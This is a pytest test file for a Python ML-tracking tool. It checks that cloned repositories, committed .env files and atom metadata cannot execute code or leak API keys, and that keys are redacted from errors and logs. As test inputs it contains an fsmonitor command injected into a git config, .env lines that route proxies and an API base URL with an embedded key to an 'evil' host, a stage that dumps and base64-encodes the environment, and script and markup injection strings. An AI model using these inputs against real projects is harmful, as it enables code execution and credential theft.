"""What a clone, a remote or an atom brings is not executed by reading it, and has no key sent or written anywhere."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from chain import Chain, commit, git
from markdown_it import MarkdownIt

from motools.atom import Atom, DatasetAtom, ModelAtom
from motools.atom.card import card
from motools.atom.lineage import trace
from motools.base import secrets
from motools.errors import AtomError

KEY = "planted+value/0123$456789"


@pytest.fixture
def chain(project: Path, monkeypatch: pytest.MonkeyPatch) -> Chain:
    monkeypatch.setenv("SOME_API_KEY", KEY)
    return Chain.lay(project)


def holding(folder: Path, text: str = KEY) -> list[str]:
    """Files below a folder that hold a text, or have it in their names."""
    found = []
    for path in folder.rglob("*"):
        if text in path.name or (path.is_file() and text.encode() in path.read_bytes()):
            found.append(path.relative_to(folder).as_posix())
    return found


# -- executed ------------------------------------------------------------------


@pytest.mark.parametrize("words", ["status", "status study", "pull", "atoms show model-0000000", "diff"])
def test_a_folder_that_looks_like_a_bare_repository_has_nothing_executed(
    chain: Chain, tmp_path: Path, words: str
) -> None:
    """A clone can bring all files of a bare repository, whose configuration names commands; DVC's can be one."""
    for folder in (chain.path("study"), chain.path(".dvc")):
        for name in ("objects", "refs"):
            (folder / name).mkdir(parents=True)
            (folder / name / "x").touch()
        (folder / "HEAD").write_text("ref: refs/heads/main\n")
        (folder / "config").write_text(
            "[core]\nremote = far\nrepositoryformatversion = 0\nbare = false\nworktree = ..\n"
            f'fsmonitor = "touch {tmp_path}/executed; false"\n[remote "far"]\nurl = https://127.0.0.1:9/x\n'
        )
    chain.path("study", "params.yaml").write_text(chain.path("params.yaml").read_text())
    commit(chain.folder)
    done = chain.command(*words.split())
    assert not (tmp_path / "executed").exists()
    assert "Traceback" not in done.err


@pytest.mark.parametrize(
    "name",
    ["OPENSSL_CONF", "OPENSSL_MODULES", "GCONV_PATH", "SSLKEYLOGFILE", "HOSTALIASES", "RES_OPTIONS", "LOCALDOMAIN"],
)
def test_a_committed_env_file_sets_nothing_that_loads_code_or_turns_requests(chain: Chain, name: str) -> None:
    chain.path(".env").write_text(f"{name}=evil/it\n")
    git(chain.folder, "add", "-f", ".env")
    done = chain.command("jobs", "show", "x")
    assert done.code == 2
    assert f".env, which git keeps, sets {name}" in done.err


@pytest.mark.parametrize(
    "line",
    [
        "http_proxy=evil:8080",
        "All_Proxy=socks5://evil",
        "export OPENAI_BASE_URL='https://evil.org/${SOME_API_KEY}'",
    ],
)
@pytest.mark.parametrize("mark", ["", "\ufeff# x\r\n"])
def test_a_committed_env_file_names_no_host_however_it_is_written(chain: Chain, line: str, mark: str) -> None:
    chain.path(".env").write_text(f"{mark}{line}\r\n", encoding="utf-8", newline="")
    git(chain.folder, "add", "-f", ".env")
    done = chain.command("jobs", "show", "x")
    assert done.code == 2
    assert "which git keeps, would have requests, and your key with them, sent to evil" in done.err
    assert KEY not in done.err


# -- written -------------------------------------------------------------------


@pytest.mark.parametrize("part", ["a file", "a folder"])
def test_a_key_is_in_no_files_name(chain: Chain, part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_API_KEY", key := "planted-value-0123456789")
    path = f"run-{key}.txt" if part == "a file" else f"{key}/a.txt"
    code = (
        f"\n    (workspace / 'out' / '{path}').parent.mkdir(parents=True)\n    (workspace / 'out' / '{path}').touch()"
    )
    chain.edit("chain.py", "    time.sleep(config.pause)\n", f"    time.sleep(config.pause){code}\n")
    chain.edit("chain.py", '(out / "sub").mkdir(parents=True)', '(out / "sub").mkdir(parents=True, exist_ok=True)')
    done = chain.run()
    assert done.code == 1
    assert "would hold the value of SOME_API_KEY, for all to read." in done.said
    assert key not in done.err
    assert all(each.startswith((".motools/finished", "chain.py")) for each in holding(chain.folder, key))
    folder = chain.path("mine")
    (folder / path).parent.mkdir(parents=True)
    (folder / path).touch()
    with pytest.raises(AtomError, match="holds the value of SOME_API_KEY, for all to read"):
        Atom.create(user="ada", kind="prompt", artifact_path=folder)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://hf_tokenofmine@hub.example.org/x", "https://[a password]@hub.example.org/x"),
        ("https://oauth2-0123456789@git.example.org", "https://[a password]@git.example.org"),
        ("ssh://git@example.org/x and git@example.org:x", "ssh://git@example.org/x and git@example.org:x"),
        ("https://a.blob.example/x?sv=2024&sig=ab%2Fcd%3D&se=1", "https://a.blob.example/x?sv=2024&sig=[a key]&se=1"),
        ("GET /v1?api_key=abcdef&limit=3", "GET /v1?api_key=[a key]&limit=3"),
        (
            "s3://b/x?X-Amz-Signature=0a1b&X-Amz-Security-Token=c2",
            "s3://b/x?X-Amz-Signature=[a key]&X-Amz-Security-Token=[a key]",
        ),
        ("what?the key=abc is", "what?the key=abc is"),
        ("https://example.org/?page=2&token_count=17", "https://example.org/?page=2&token_count=17"),
    ],
)
def test_what_lets_one_in_is_shown_of_no_address(text: str, shown: str) -> None:
    assert secrets.redact(text) == shown


def test_a_token_in_the_place_of_a_user_is_a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "https://long-token-of-mine@pypi.example.org/simple")
    monkeypatch.setenv("GIT_SSH", "ssh://a-user-of-long-name@host/x")
    assert (
        secrets.redact("it is long-token-of-mine, a-user-of-long-name") == "it is [PIP_INDEX_URL], a-user-of-long-name"
    )


@pytest.mark.parametrize("how", ["an address that git refuses", "a traceback", "a report"])
def test_a_key_is_in_no_error(chain: Chain, how: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    if how == "an address that git refuses":
        git(chain.folder, "remote", "add", "origin", f"https://x:{KEY}@127.0.0.1:9/x.git")
        done = chain.command("history", f"no-{KEY}", "--verbose")
    elif how == "a traceback":
        done = chain.command("workflow", "validate", f"{KEY}.py:x", "--verbose")
        assert "Traceback" in done.err
    else:
        monkeypatch.setattr("motools.atom.listing.find", lambda *words: {}[f"'\"{KEY}"])
        done = chain.command("lineage", "model")
        assert done.code == 70
        assert "[SOME_API_KEY]" in next(chain.path(".motools/crashes").iterdir()).read_text()
    assert done.code != 0
    assert KEY not in done.err + done.out
    assert [each for each in holding(chain.folder) if each != ".git/config"] == []


def test_a_stage_of_ones_own_tells_no_key(chain: Chain) -> None:
    chain.path("dvc.yaml").write_text(
        "stages:\n  own:\n    cmd: 'echo it is $SOME_API_KEY; env; env | base64 -w0; false'\n    outs: [x.txt]\n"
    )
    done = chain.run()
    assert done.code == 1
    assert "[SOME_API_KEY]" in chain.path(".motools/logs/own.log").read_text()
    assert KEY not in done.err + chain.command("status").out + chain.command("log", "own").out
    assert holding(chain.folder) == []


# -- shown ---------------------------------------------------------------------


MARKUP = "\x1b[2J `` | <b> <script> \n\n# mine\n\n![i](http://e.vil/i.png) {{ x }} {% x %}"
ODD: list[Any] = [None, [], {}, "x", 3, {"a": [1]}, -1.5, True, [MARKUP], {MARKUP: MARKUP}, MARKUP]


@pytest.mark.parametrize("odd", ODD, ids=lambda odd: repr(odd)[:12])
def test_a_card_is_words_whatever_an_atom_says(project: Path, tmp_path: Path, odd: Any) -> None:
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "adapter_model.safetensors").touch()
    names = ("base_model", "base_revision", "base_content", "hyperparameters", "trained_rows", "steps", "final_loss")
    dataset = DatasetAtom.create(user=f"ada {MARKUP}", metadata={"sources": odd, "samples": odd})
    for source in ({"url": odd, "revision": odd}, odd):
        about = {**dict.fromkeys((*names, "trained_tokens"), odd), "model_id": MARKUP, "sources": [source]}
        model = ModelAtom.create(
            user="ada", artifact_path=tmp_path / "model", made_from={"data": dataset.id}, metadata=about
        )
        text = card(trace(model), ["a.jsonl"], "https://example.org")
        page = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text.split("---\n", 2)[2])
        for sign in ("<img", "<script", "<b>", "<h1>mine", "\x1b"):
            assert sign not in page


def test_what_a_dataset_says_ends_no_card_either(project: Path) -> None:
    for odd in ODD:
        atom = DatasetAtom.create(user="ada", metadata={"sources": odd, "samples": odd, "hyperparameters": odd})
        assert "## Citation" in card(trace(atom))
